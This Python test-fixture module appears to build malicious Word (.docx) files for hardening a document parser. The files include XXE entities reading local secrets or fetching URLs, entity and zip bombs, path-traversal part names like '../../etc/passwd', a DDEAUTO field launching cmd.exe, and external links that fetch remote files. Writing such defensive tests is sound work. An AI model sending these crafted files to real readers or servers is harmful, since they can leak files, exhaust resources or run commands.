"""Files made to harm whoever reads them, by the class of the attack; all are made by hand and alike every time."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
from collections.abc import Callable, Iterator, Mapping

from tests.docx.word_file import content_types, p, part, relationships, style, word_parts, zipped

Files = Iterator[tuple[str, bytes]]
DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>'
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
TABLE = "<w:tbl><w:tblPr/>{}</w:tbl>"


def changed(body: str = p("Chữ"), /, **parts: str | bytes) -> bytes:
    """A plain file with some parts replaced; `__` in a name stands for "/", `_` before xml and rels for "."."""
    whole: dict[str, str | bytes] = word_parts(body)
    for name, content in parts.items():
        whole[name.replace("__", "/").replace("_xml", ".xml").replace("_DOT_", ".")] = content
    return zipped(whole)


def document(text: str | bytes) -> bytes:
    """A plain file whose main part is this text, not packed: what repeats is not refused for its packing."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for name, content in {**word_parts(""), "word/document.xml": text}.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def body(content: str, head: str = "") -> str:
    return f"{DECLARATION}{head}<w:document {W}><w:body>{content}</w:body></w:document>"


def entities(url: str, secret: str) -> Files:
    """External entities and doctypes in every part."""
    kinds = {
        "file": f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}">]>',
        "http": f'<!DOCTYPE x [<!ENTITY e SYSTEM "{url}/e">]>',
        "public": f'<!DOCTYPE x [<!ENTITY e PUBLIC "a" "{url}/p">]>',
        "parameter": f'<!DOCTYPE x [<!ENTITY % d SYSTEM "{url}/d"> %d;]>',
        "doctype": f'<!DOCTYPE x SYSTEM "{url}/x.dtd">',
        "internal": '<!DOCTYPE x [<!ENTITY e "chữ">]>',
        "attribute": "<!DOCTYPE x [<!ATTLIST x y CDATA 'z'>]>",
    }
    for kind, head in kinds.items():
        yield kind, document(body(p("&e;" if "ENTITY e" in head else "a"), head))
    for name in ("[Content_Types].xml", "_rels/.rels", "word/_rels/document.xml.rels"):
        whole = word_parts(p("a"))
        whole[name] = (
            str(whole[name])
            .replace("<Types", kinds["http"] + "<Types", 1)
            .replace("<Relationships", kinds["http"] + "<Relationships", 1)
        )
        yield name, zipped(whole)
    utf16 = body(p("a"), kinds["http"]).replace("UTF-8", "UTF-16")
    yield "utf-16", document(utf16.encode("utf-16"))
    yield "unknown entity", document(body(p("&khong_co;")))
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{secret}"/>'
    yield "xinclude", document(body(p("a") + include))
    yield "stylesheet", document(body(p("a"), f'<?xml-stylesheet href="{url}/s.xsl" type="text/xsl"?>'))
    location = f'xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:schemaLocation="a {url}/a.xsd"'
    yield (
        "schema",
        document(f"{DECLARATION}<w:document {W} {location}><w:body>{p('a')}</w:body></w:document>"),
    )


def bombs_of_entities(url: str, secret: str) -> Files:
    """Entities that grow without end."""
    laughs = "".join(f'<!ENTITY e{n} "{"&e" + str(n - 1) + ";"}&e{n - 1};">' for n in range(1, 30))
    yield "laughs", document(body(p("&e29;"), f'<!DOCTYPE x [<!ENTITY e0 "ha">{laughs}]>'))
    yield "quadratic", document(body(p("&e;" * 5_000), f'<!DOCTYPE x [<!ENTITY e "{"a" * 50_000}">]>'))
    yield "loop", document(body(p("&a;"), '<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'))
    types = content_types().replace("<Types", f'<!DOCTYPE x [<!ENTITY e0 "h">{laughs}]><Types')
    yield "in the content types", zipped({**word_parts(p("a")), "[Content_Types].xml": types})
    yield "by character references", document(body(p("&#65;" * 200_000)))


def bombs_of_packing(url: str, secret: str) -> Files:
    """Parts that unpack to far more than they weigh, or lie about their size."""
    yield "blank document", changed(word__document_xml=body("") + " " * 30_000_000)
    yield "blank picture", changed(word__media__a_DOT_png=bytes(30_000_000))
    yield "many blank parts", changed(**{f"word__x{n}_xml": " " * 900_000 for n in range(200)})
    for name, size in (("says less", 10), ("says more", 10_000_000), ("says 4 GB", 0xFFFFFFFF)):
        yield name, central(changed(), "word/document.xml", 24, struct.pack("<I", size))
    yield "packed size too large", central(changed(), "word/document.xml", 20, struct.pack("<I", 0x7FFFFFFF))
    yield "packed size 0", central(changed(), "word/document.xml", 20, struct.pack("<I", 0))
    inner = zipped({"a": bytes(1_000_000)})
    yield "zip in a zip", changed(word__embeddings__a_DOT_docx=inner)
    yield "quine head", changed()[:60] * 500


def directories(url: str, secret: str) -> Files:
    """Directories of the ZIP that lie."""
    yield "100.000 entries", many_entries(100_000)
    yield "2.001 entries", zipped({f"{n}.xml": "" for n in range(2_001)})
    plain = changed()
    yield "points outside", central(plain, "word/document.xml", 42, b"\xff\xff\xff\x7f")
    yield "points into another", central(plain, "word/document.xml", 42, b"\x05\0\0\0")
    yield "points to the same", central(plain, "word/document.xml", 42, b"\0\0\0\0")
    yield (
        "overlaps",
        central(zipped({**word_parts(p("a"))}), "[Content_Types].xml", 20, struct.pack("<I", 2_000)),
    )
    yield "wrong sum", central(plain, "word/document.xml", 16, b"\1\2\3\4")
    yield "encrypted", central(plain, "word/document.xml", 8, b"\1\0")
    yield "odd packing", central(plain, "word/document.xml", 10, b"\x0c\0")
    yield "no directory", plain[: plain.index(b"PK\1\2")]
    yield "directory cut", plain[:-30]
    yield "end record twice", plain + plain[-22:]
    yield "comment of 64 kB", plain[:-2] + struct.pack("<H", 60_000) + b"x" * 60_000
    yield "counts too many", plain[:-12] + struct.pack("<H", 60_000) + plain[-10:]
    yield "zip64 sizes", central(plain, "word/document.xml", 20, b"\xff" * 8)
    yield "first header spoiled", b"PK\3\4" + bytes(26) + plain[30:]
    yield "packed bytes spoiled", plain[:200] + bytes(100) + plain[300:]


def names(url: str, secret: str) -> Files:
    """Names of parts that lead elsewhere or stand twice."""
    for name in (
        "../../etc/passwd",
        "/etc/passwd",
        "word/../../a",
        "word//a.xml",
        "./a.xml",
        "c:/a",
        "a/\x01b",
    ):
        yield repr(name), zipped({**word_parts(p("a")), name: "x"})
    yield "backslash", changed(a_DOT_b="x").replace(b"a.b", b"a\\b")
    yield "NUL", changed(a_DOT_b="x").replace(b"a.b", b"a\0b")
    yield "twice", twice("word/document.xml")
    yield "twice but for case", twice("Word/Document.XML")
    yield "folder that holds bytes", twice("word/")
    yield "very long", zipped({**word_parts(p("a")), "x" * 60_000: ""})
    yield "direction marks", zipped({**word_parts(p("a")), "word/\u202elmx.a": ""})


def kinds(url: str, secret: str) -> Files:
    """What is no Word document, whatever its name says."""
    plain = b"<?xml version='1.0'?><a/>"
    texts = (b"", b"PK", b"PK\3\4", b"%PDF-1.7\n", b"{\\rtf1 a}", plain, b"MZ" + changed(), b"\0" * 5_000)
    for data in texts:
        yield f"{data[:8]!r} {len(data)}", data
    utf16 = {"password": "EncryptedPackage", "doc": "WordDocument", "xls": "Workbook"}
    for name, stream in utf16.items():
        yield name, OLE + bytes(500) + stream.encode("utf-16-le") + bytes(500)
    for kind in ("spreadsheetml", "presentationml"):
        types = content_types().replace("wordprocessingml", kind)
        yield kind, zipped({**word_parts(p("a")), "[Content_Types].xml": types})
    macro = content_types(main_type="application/vnd.ms-word.document.macroEnabled.main+xml")
    yield "macros by type", zipped({**word_parts(p("a")), "[Content_Types].xml": macro})
    yield "macros by part", changed(word__vbaProject_DOT_bin=b"x")
    yield "macros in capitals", changed(WORD__VBAPROJECT_DOT_BIN=b"x")


def packages(url: str, secret: str) -> Files:
    """Parts and relationships that are missing, wrong or run in circles."""
    for name in word_parts(p("a")):
        yield (
            f"without {name}",
            zipped({key: text for key, text in word_parts(p("a")).items() if key != name}),
        )
    for target in (
        "../../../etc/passwd",
        "NULL",
        "",
        "%00",
        "file:///etc/passwd",
        "document.xml#a",
        "." * 5_000,
    ):
        whole = word_parts(p("a"))
        whole["word/_rels/document.xml.rels"] = relationships(
            ("s", "styles", target), ("n", "numbering", target)
        )
        yield f"target {target[:30]!r}", zipped(whole)
        yield (
            f"main target {target[:30]!r}",
            zipped({**word_parts(p("a")), "_rels/.rels": relationships(("r", "officeDocument", target))}),
        )
    whole = word_parts(p("a"))
    same = [(kind, kind, "document.xml") for kind in ("styles", "numbering", "settings", "theme", "comments")]
    whole["word/_rels/document.xml.rels"] = relationships(*same)
    yield "everything is the document", zipped(whole)
    circle = "<w:sectPr><w:headerReference w:type='default' r:id='h'/></w:sectPr>"
    whole = word_parts(p("a") + circle)
    whole["word/_rels/document.xml.rels"] = relationships(("h", "header", "document.xml"))
    yield "header is the document", zipped(whole)
    many = [(f"r{n}", "image", f"media/{n}.png") for n in range(50_000)]
    yield (
        "50.000 relationships",
        zipped({**word_parts(p("a")), "word/_rels/document.xml.rels": relationships(*many)}),
    )
    yield "wrong root", document(part("w:styles", p("a")))
    yield "no body", document(part("w:document", ""))
    yield "two bodies", document(part("w:document", f"<w:body>{p('a')}</w:body><w:body>{p('b')}</w:body>"))
    yield "no namespace", document("<document><body/></document>")
    outside = relationships(("r", "officeDocument", url)).replace("/>", ' TargetMode="External"/>')
    yield "main part outside", zipped({**word_parts(p("a")), "_rels/.rels": outside})


def floods(url: str, secret: str) -> Files:
    """More of a thing than anybody needs."""
    yield "1.000.000 empty paragraphs", document(body("<w:p/>" * 1_000_000))
    yield "400.000 empty paragraphs", document(body("<w:p/>" * 400_000))
    yield "50.000 paragraphs", document(body(p("a") * 50_000))
    yield "120.000 runs", document(body(f"<w:p>{'<w:r><w:t>a</w:t></w:r>' * 120_000}</w:p>"))
    yield "240.000 tabs", document(body(f"<w:p><w:r>{'<w:tab/>' * 240_000}</w:r></w:p>"))
    yield "attribute of 9 MB", document(body(f"<w:p><w:r><w:t w:x='{'a' * 9_000_000}'>a</w:t></w:r></w:p>"))
    yield "text of 9 MB", document(body(p("a" * 9_000_000)))
    yield "text of 20 MB", document(body(p("ab" * 10_000_000)))
    attributes = " ".join(f"w:a{n}='1'" for n in range(50_000))
    yield "50.000 attributes", document(body(f"<w:p {attributes}/>"))
    spaces = " ".join(f"xmlns:n{n}='u{n}'" for n in range(50_000))
    yield "50.000 namespaces", document(body(f"<w:p {spaces}/>"))
    marks = "".join(f"<w:bookmarkStart w:id='{n}' w:name='d{n}'/>" for n in range(60_000))
    yield "60.000 bookmarks", document(body(f"<w:p>{marks}</w:p>" + p("a")))
    comments = "".join(f"<w:commentRangeStart w:id='{n}'/>" for n in range(60_000))
    yield "60.000 comments", document(body(f"<w:p>{comments}</w:p>" + p("a" * 1_000) * 100))
    inserted = "<w:ins><w:r><w:t>a</w:t></w:r></w:ins>" * 60_000
    yield "60.000 insertions", document(body(f"<w:p>{inserted}</w:p>"))
    marked = "<w:p><w:pPr><w:rPr><w:del/></w:rPr></w:pPr><w:r><w:t>a</w:t></w:r></w:p>"
    yield "30.000 deleted marks", document(body(marked * 30_000))
    sections = "<w:p><w:pPr><w:sectPr/></w:pPr></w:p>" * 15_000
    yield "15.000 sections", document(body(sections))
    drawings = (
        "<w:r><w:pict><v:line xmlns:v='urn:schemas-microsoft-com:vml' from='0,0' to='9mm,0'/></w:pict></w:r>"
    )
    yield "30.000 lines", document(body(f"<w:p>{drawings * 30_000}</w:p>"))


def depths(url: str, secret: str) -> Files:
    """Things inside one another without end."""
    wraps = {
        "sdt": ("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>"),
        "ins": ("<w:ins>", "</w:ins>"),
        "smartTag": ("<w:smartTag>", "</w:smartTag>"),
        "fldSimple": ("<w:fldSimple w:instr='PAGE'>", "</w:fldSimple>"),
        "tbl": ("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"),
        "unknown": ("<w:la>", "</w:la>"),
    }
    for name, (start, end) in wraps.items():
        for depth in (60, 100_000):
            inner = p("a") if name in ("sdt", "tbl", "unknown") else "<w:r><w:t>a</w:t></w:r>"
            content = start * depth + inner + end * depth
            outer = content if name in ("sdt", "tbl", "unknown") else f"<w:p>{content}</w:p>"
            yield f"{depth} {name}", document(body(outer))
    box = "<w:p><w:r><w:pict><v:shape xmlns:v='urn:schemas-microsoft-com:vml'><v:textbox><w:txbxContent>"
    close = "</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>"
    yield "35 text boxes", document(body(box * 35 + p("a") + close * 35))
    ns = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
    either = f"<mc:AlternateContent {ns}><mc:Choice>", "</mc:Choice></mc:AlternateContent>"
    yield "100 alternatives", document(body(either[0] * 100 + p("a") + either[1] * 100))


def tables(url: str, secret: str) -> Files:
    """Tables that are too large, too wide or senseless."""
    cell = f"<w:tc>{p('a')}</w:tc>"
    yield (
        "100.000 cells in a row",
        document(body(TABLE.format(f"<w:tr>{'<w:tc><w:p/></w:tc>' * 100_000}</w:tr>"))),
    )
    yield "15.000 rows", document(body(TABLE.format(f"<w:tr>{cell}</w:tr>" * 15_000)))
    yield (
        "100.000 grid columns",
        document(body(TABLE.format("<w:tblGrid>" + "<w:gridCol/>" * 100_000 + "</w:tblGrid>"))),
    )
    for value in ("999999999", "-5", "0", "abc", "1e300", "nan"):
        span = f"<w:tc><w:tcPr><w:gridSpan w:val='{value}'/><w:tcW w:w='{value}' w:type='dxa'/></w:tcPr>{p('a')}</w:tc>"
        skipped = f"<w:trPr><w:gridBefore w:val='{value}'/></w:trPr>"
        yield f"span {value}", document(body(TABLE.format(f"<w:tr>{skipped}{span}</w:tr>" * 3)))
    yield "20.000 empty tables", document(body("<w:tbl/>" * 20_000))
    yield "table without cells", document(body(TABLE.format("<w:tr/>" * 100)))


def loops(url: str, secret: str) -> Files:
    """Styles, lists and themes that refer to one another without end."""
    item = "<w:pStyle w:val='A'/><w:numPr><w:ilvl w:val='0'/><w:numId w:val='1'/></w:numPr>"
    self_based = style("A", "", based_on="A")
    yield "style on itself", zipped(word_parts(p("a", item), styles=self_based))
    yield (
        "styles in a circle",
        zipped(word_parts(p("a", item), styles=style("A", "", based_on="B") + style("B", "", based_on="A"))),
    )
    chain = "".join(style(f"K{n}", "", based_on=f"K{n + 1}") for n in range(20_000))
    yield "20.000 styles in a chain", zipped(word_parts(p("a", "<w:pStyle w:val='K0'/>") * 50, styles=chain))
    link = "<w:abstractNum w:abstractNumId='0'><w:numStyleLink w:val='A'/></w:abstractNum>"
    number = "<w:num w:numId='1'><w:abstractNumId w:val='0'/></w:num>"
    back = style("A", "<w:pPr><w:numPr><w:numId w:val='1'/></w:numPr></w:pPr>", kind="numbering")
    yield "list on itself", zipped(word_parts(p("a", item), numbering=link + number, styles=back))
    for value in ("-1", "999999999999", "abc", "1e9", "²"):
        levels = (
            f"<w:abstractNum w:abstractNumId='0'><w:lvl w:ilvl='0'><w:start w:val='{value}'/>"
            "<w:numFmt w:val='upperRoman'/><w:lvlText w:val='%1%2%3%9.'/></w:lvl></w:abstractNum>"
        )
        odd = item.replace("w:ilvl w:val='0'", f"w:ilvl w:val='{value}'")
        yield f"list from {value}", zipped(word_parts(p("a", item) + p("b", odd), numbering=levels + number))
    text = "%1" * 200_000
    long = (
        "<w:abstractNum w:abstractNumId='0'><w:lvl w:ilvl='0'><w:numFmt w:val='lowerLetter'/>"
        f"<w:start w:val='780'/><w:lvlText w:val='{text}'/></w:lvl></w:abstractNum>"
    )
    yield "number of millions of letters", zipped(word_parts(p("a", item) * 300, numbering=long + number))


def fields(url: str, secret: str) -> Files:
    """Fields that fetch, run, or never end."""
    begin, end = (
        "<w:r><w:fldChar w:fldCharType='begin'/></w:r>",
        "<w:r><w:fldChar w:fldCharType='end'/></w:r>",
    )
    for code in (
        "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe /c",
        f"INCLUDEPICTURE {url}/a.png",
        f"INCLUDETEXT {url}/a.docx",
        f"INCLUDETEXT file://{secret}",
        f"IMPORT {url}/x",
    ):
        yield (
            code.split(" ")[0] + code[-12:],
            document(body(f"<w:p>{begin}<w:r><w:instrText>{code}</w:instrText></w:r>{end}</w:p>")),
        )
    yield "50.000 begins", document(body(f"<w:p>{begin * 50_000}</w:p>" + p("a")))
    yield "begins in 5.000 paragraphs", document(body(f"<w:p>{begin}</w:p>" * 5_000 + p("a") * 2_000))
    yield "50.000 ends", document(body(f"<w:p>{end * 50_000}</w:p>"))
    long = f"<w:r><w:instrText>{'A ' * 100_000}</w:instrText></w:r>"
    inside = "<w:r><w:fldChar w:fldCharType='separate'/></w:r>" + "<w:r><w:t>a</w:t></w:r>" * 2_000
    yield "long instruction", document(body(f"<w:p>{begin}{long}{inside}{end}</w:p>"))
    separate = "<w:r><w:fldChar w:fldCharType='separate'/></w:r>"
    yield "40.000 results in one another", document(body(f"<w:p>{(begin + separate) * 40_000}</w:p>"))
    yield (
        "20.000 fields in a long one",
        document(body(f"<w:p>{begin}{long}{separate}{(begin + end) * 20_000}{end}</w:p>")),
    )
    yield (
        "simple field that a mark ends",
        document(
            body(
                f"<w:p><w:fldSimple w:instr='PAGE'>{end}{begin}<w:r><w:t>a</w:t></w:r></w:fldSimple></w:p>"
                + p("b")
            )
        ),
    )
    pieces = "<w:r><w:instrText>A</w:instrText></w:r>" * 60_000
    yield "instruction in 60.000 pieces", document(body(f"<w:p>{begin}{pieces}{end}</w:p>"))


def outsides(url: str, secret: str) -> Files:
    """Links that a careless reader would follow."""
    for kind in (
        "image",
        "attachedTemplate",
        "oleObject",
        "subDocument",
        "aFChunk",
        "header",
        "styles",
        "hyperlink",
    ):
        for target in (f"{url}/{kind}", f"file://{secret}", "\\\\may-chu\\chia-se"):
            whole = word_parts(p("a") + "<w:sectPr><w:headerReference w:type='default' r:id='x'/></w:sectPr>")
            linked = relationships(("x", kind, target)).replace("/></Rel", ' TargetMode="External"/></Rel')
            whole["word/_rels/document.xml.rels"] = linked
            yield f"{kind} {target[:5]}", zipped(whole)


def encodings(url: str, secret: str) -> Files:
    """XML that is broken, or in an encoding that hides something."""
    text = body(p("Chữ"))
    for name in ("utf-7", "utf-32", "iso-8859-1", "windows-1258", "cp037", "khong-co", "ascii"):
        yield f"says {name}", document(text.replace("UTF-8", name))
    yield "utf-16", document(text.replace("UTF-8", "UTF-16").encode("utf-16"))
    yield "utf-16 without mark", document(text.replace("UTF-8", "UTF-16").encode("utf-16-le"))
    yield "utf-16 cut", document(text.encode("utf-16")[:-1])
    yield "utf-32", document(text.encode("utf-32"))
    yield "utf-8 with mark", document(b"\xef\xbb\xbf" + text.encode())
    yield "wrong utf-8", document(text.encode().replace(b"Ch", b"\xff\xfe"))
    yield "surrogate", document(text.encode().replace(b"Ch", b"\xed\xa0\x80"))
    for odd in ("&#0;", "&#1;", "&#xD800;", "&#xFFFF;", "&", "<", "]]>", "\x00", "\x0b", "<![CDATA[", "<!--"):
        yield f"text {odd!r}", document(text.replace("Chữ", odd))
    yield "cut", document(text[: len(text) // 2])
    yield "empty", document("")
    yield "two roots", document(text + "<a/>")
    yield "end without start", document("</w:document>")
    yield "undeclared prefix", document(text.replace("<w:p>", "<q:p>").replace("</w:p>", "</q:p>"))
    yield "same attribute twice", document(text.replace("<w:p>", "<w:p w:a='1' w:a='2'>"))
    yield "1.1", document(text.replace('version="1.0"', 'version="1.1"'))


CLASSES: Mapping[str, Callable[[str, str], Files]] = {
    "entities": entities,
    "bombs of entities": bombs_of_entities,
    "bombs of packing": bombs_of_packing,
    "directories": directories,
    "names": names,
    "kinds": kinds,
    "packages": packages,
    "floods": floods,
    "depths": depths,
    "tables": tables,
    "loops": loops,
    "fields": fields,
    "outsides": outsides,
    "encodings": encodings,
}


def central(data: bytes, name: str, offset: int, value: bytes) -> bytes:
    """Write bytes into the directory entry of a part; offsets are those of the ZIP format."""
    at = data.rindex(name.encode()) - 46
    return data[: at + offset] + value + data[at + offset + len(value) :]


def twice(name: str) -> bytes:
    """A plain file with one more part of this name."""
    buffer = io.BytesIO(changed())
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(buffer, "a") as archive:
            archive.writestr(name, "x")
    return buffer.getvalue()


def many_entries(count: int) -> bytes:
    """A ZIP of so many empty parts, written without the ZIP library, which is slow at it."""
    head, line, end = struct.Struct("<4s5H3I2H"), struct.Struct("<4s6H3I5H2I"), struct.Struct("<4s4H2IH")
    local, directory = bytearray(), bytearray()
    for number in range(count):
        name = b"%07d" % number
        directory += line.pack(b"PK\1\2", 20, 20, 0, 0, 0, 33, 0, 0, 0, 7, 0, 0, 0, 0, 0, len(local)) + name
        local += head.pack(b"PK\3\4", 20, 0, 0, 0, 33, 0, 0, 0, 7, 0) + name
    counted = count & 0xFFFF
    return bytes(
        local + directory + end.pack(b"PK\5\6", 0, 0, counted, counted, len(directory), len(local), 0)
    )
